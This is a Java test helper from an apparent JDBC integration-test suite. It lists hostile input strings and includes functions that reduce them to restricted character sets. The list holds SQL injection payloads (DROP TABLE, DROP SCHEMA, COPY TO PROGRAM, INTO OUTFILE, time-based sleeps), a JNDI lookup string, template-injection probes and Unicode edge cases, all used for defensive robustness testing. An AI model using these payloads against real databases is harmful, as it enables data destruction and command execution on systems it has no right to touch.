package dev.frontrow.it.jdbc;

import java.util.List;
import java.util.Locale;

/** Strings that were made to break databases, and what is left of them where only some characters are allowed. */
final class Hostile {

    static final List<String> STRINGS = List.of(
            // Ends of strings and of statements.
            "'",
            "''",
            "'''",
            "\"",
            "`",
            "\\",
            "\\'",
            "\\\\'; --",
            "';",
            "'; DROP TABLE frontrow_message; --",
            "'); DROP TABLE frontrow_room CASCADE; --",
            "\"; DROP TABLE frontrow_audit; --",
            "`; DROP TABLE frontrow_sanction; #",
            "1; DELETE FROM frontrow_message WHERE '1'='1",
            "'||(SELECT version())||'",
            "' UNION SELECT 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13 --",
            "' OR '1'='1' /*",
            "admin'--",
            "x' AND 1=(SELECT COUNT(*) FROM frontrow_room); --",
            "'; SHUTDOWN; --",
            "'; COMMIT; DROP SCHEMA public CASCADE; --",
            "'; SELECT pg_sleep(10); --",
            "' AND SLEEP(10) #",
            "'; CALL CSVWRITE('/tmp/x', 'SELECT 1'); --",
            "'; COPY frontrow_message TO PROGRAM 'id'; --",
            "' INTO OUTFILE '/tmp/x' --",
            // Comments.
            "/* */",
            "/*!50000 DROP TABLE frontrow_message */",
            "*/ DROP TABLE frontrow_message /*",
            "-- comment",
            "# comment",
            "a\n-- b\n'; c",
            // What pattern matching, drivers and templates look for.
            "%",
            "_",
            "%_%",
            "?",
            "??",
            "?::text",
            "$1",
            "$$ $tag$ $tag$",
            ":name",
            "{fn now()}",
            "{d '2026-01-01'}",
            "{call x()}",
            "{oj a}",
            "%s %d %n",
            "${jndi:ldap://example.org/a}",
            "#{1+1}",
            "{{7*7}}",
            "{\"a\": [1, null]}",
            "{NULL,\"x\"}",
            // Literals of other kinds.
            "NULL",
            "null",
            "DEFAULT",
            "CURRENT_USER",
            "true",
            "0",
            "-1",
            "1e309",
            "0x27206F722031",
            "x'27'",
            "E'\\x27'",
            "U&'\\0027'",
            "N'a'",
            "CHAR(39)",
            "_latin1'a'",
            "\u00BF' OR 1=1 --", // 0xBF eats the escape of a quote in GBK
            "\u00BF\\'",
            // Characters that become quotes when somebody converts them.
            "\u02BC\u2018\u2019\u201C\u201D\uFF07\uFF02\u2032",
            // What collations, normalisers and editors change.
            " a ",
            "a   ",
            "\ta\t",
            "line one\nline two\r\nline three",
            "e\u0301 \u00E9 \u212B \uFB01 \u1E9E \u0130\u0131",
            "\u00E4\u00C4a\u0308A\u0308",
            "\u202E desrever \u202C",
            "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
            "zero\u200Bwidth\u200D\u2060\uFEFF",
            "\uFFFD\uFFFF\uFFFE",
            "\uD83D\uDE00",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uDBFF\uDFFF",
            // Sizes.
            "'".repeat(4_000),
            "\\".repeat(3_999) + "'",
            "\uD83D\uDE00".repeat(4_000));

    private Hostile() {}

    /** So many code points of it at most. */
    static String cut(String text, int codePoints) {
        return text.codePointCount(0, text.length()) <= codePoints
                ? text
                : text.substring(0, text.offsetByCodePoints(0, codePoints));
    }

    /** As visible ASCII, 1 to so many characters; a space becomes a comment, as attackers do it. */
    static String visible(String text, int length) {
        return left(text.replace(" ", "/**/"), "[^!-~]", length);
    }

    /** As a room's name, 1 to so many characters. */
    static String room(String text, int length) {
        return left(text.replace(' ', '~'), "[^A-Za-z0-9._~-]", length);
    }

    /** As a message's id, 1 to so many characters. */
    static String id(String text, int length) {
        return left(text.replace(' ', '-'), "[^A-Za-z0-9_-]", length);
    }

    /** As a badge. */
    static String badge(String text) {
        return left(text.toLowerCase(Locale.ROOT), "[^a-z0-9_-]", 32);
    }

    private static String left(String text, String forbidden, int length) {
        String allowed = text.replaceAll(forbidden, "");
        String some = allowed.isEmpty() ? "-" : allowed;
        return some.substring(0, Math.min(length, some.length()));
    }
}
